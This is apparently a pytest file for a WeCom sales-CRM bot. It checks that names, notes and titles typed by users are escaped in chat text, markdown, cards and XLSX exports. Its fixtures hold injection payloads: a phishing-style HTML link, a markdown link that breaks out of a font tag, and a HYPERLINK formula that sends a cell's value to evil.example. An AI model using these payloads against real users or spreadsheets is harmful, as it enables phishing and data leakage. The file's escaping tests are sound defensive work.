"""Issue 16 #7 and #8: hostile strings typed by one user reach others as inert text in every format.

A name, note or title someone typed is escaped for the format it lands in: text messages (WeCom renders
`<a href>`), markdown (links, `<font>`), template cards, and the three XLSX exports (formulas).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from openpyxl import load_workbook
from sqlalchemy import select, update

from models import Customer, Opportunity, User
from services import escape
from services.export import export_customers, export_opportunities, export_visits
from tests.harness import Bot

LINK = '<a href="http://evil.example/x">报价已通过，点此确认</a>'
MD_LINK = "[点我](http://evil.example/x)</font>**"
FORMULA = '=HYPERLINK("http://evil.example/"&F2,"点我")'


def _strings(value: Any) -> list[str]:
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in _strings(v)]
    if isinstance(value, list):
        return [s for v in value for s in _strings(v)]
    return []


def _seed_hostile(bot: Bot) -> int:
    bot.send_text("rep_e1", "新客户 远大设备 联系人=王经理 电话=13812345678 地址=上海嘉定 行业=机械")
    assert "已创建客户「远大设备」" in bot.last_text("rep_e1")
    bot.send_text("rep_e1", f"拜访 远大设备 谈了新机型{LINK}")
    bot.send_text("rep_e1", "商机 远大设备 二期产线 30万")
    with bot.session() as s, s.begin():
        # names that reach other people through the records (an admin import or an old row could hold them)
        s.execute(update(Customer).values(name=f"远大设备{MD_LINK}{LINK}"))
        s.execute(update(Opportunity).values(name=f"二期{LINK}"))
        s.execute(update(User).where(User.userid == "rep_e1").values(name=f"张伟{MD_LINK}"))
        return s.scalars(select(Customer.id)).one()


def test_hostile_strings_are_inert_in_text_markdown_and_cards(bot: Bot) -> None:
    customer_id = _seed_hostile(bot)
    # text: the supervisor's 客户 view and 待办 carry the visit note and names, never a live tag
    bot.send_text("sup_east", f"客户 #{customer_id}")
    bot.send_text("rep_e1", "推进 #1")
    texts = [m["text"]["content"] for m in bot.messages("sup_east") if m["msgtype"] == "text"]
    assert any("谈了新机型" in t for t in texts), texts
    for content in texts:
        assert "<a" not in content and "</a" not in content, content
    assert any("＜a href" in t for t in texts)

    # markdown: the digest names the rep and nothing typed opens a link, a font tag or bold
    bot.send_text("sup_east", "日报")
    markdown = [m["markdown"]["content"] for m in bot.messages("sup_east") if m["msgtype"] == "markdown"]
    assert markdown
    joined = "\n".join(markdown)
    assert "张伟［点我］（http://evil.example/x）＜/font＞＊＊" in joined
    assert "](http" not in joined and joined.count("<font") == joined.count("</font>")

    # card: the approval card the supervisor receives shows the opportunity name as plain text
    with bot.session() as s, s.begin():
        s.execute(update(Opportunity).values(stage="方案制定"))
    bot.send_text("rep_e1", "报价 #1 280000 含安装")
    cards = bot.cards("sup_east")
    assert cards, bot.texts("rep_e1")
    values = _strings(cards[-1])
    assert any("二期＜a href" in v for v in values)
    assert not any("<a" in v or "</a" in v for v in values)


def test_escape_helpers_per_format() -> None:
    assert escape.text(LINK) == '＜a href="http://evil.example/x">报价已通过，点此确认＜/a>'
    assert escape.text("完成 <编号>，a < b") == "完成 <编号>，a < b"  # our usage hints stay readable
    assert escape.markdown(MD_LINK) == "［点我］（http://evil.example/x）＜/font＞＊＊"
    assert escape.markdown("第一行\n# 标题") == "第一行 ＃ 标题"
    assert escape.card("x" * 40, 26) == "x" * 25 + "…"
    assert escape.cell(FORMULA) == (FORMULA, True) and escape.cell("华东精密") == ("华东精密", False)


def _cells(path: Path) -> list[tuple[Any, str]]:
    sheet = load_workbook(path).worksheets[0]
    return [(c.value, c.data_type) for row in sheet.iter_rows(min_row=2) for c in row]


def test_exports_write_formulas_as_text(bot: Bot, tmp_path: Path) -> None:
    bot.send_text("rep_e1", "新客户 远大设备 联系人=王经理 电话=13812345678 地址=上海嘉定 行业=机械")
    bot.send_text("rep_e1", "拜访 远大设备 谈了新机型")
    bot.send_text("rep_e1", "商机 远大设备 二期产线 30万")
    with bot.session() as s, s.begin():
        s.execute(update(Customer).values(contact=FORMULA, address="+86 上海"))
        s.execute(update(Opportunity).values(name=FORMULA))
        from models import Visit

        s.execute(update(Visit).values(summary="@SUM(1,2)"))
    config = bot.state.config
    with bot.session() as s:
        export_customers(s, path=tmp_path / "c.xlsx", config=config)
        export_visits(s, path=tmp_path / "v.xlsx", config=config)
        export_opportunities(s, path=tmp_path / "o.xlsx", config=config)
    for name, typed in (
        ("c.xlsx", FORMULA),
        ("c.xlsx", "+86 上海"),
        ("v.xlsx", "@SUM(1,2)"),
        ("o.xlsx", FORMULA),
    ):
        cells = _cells(tmp_path / name)
        assert (typed, "s") in cells, (name, cells)
        assert not any(kind == "f" for _, kind in cells)
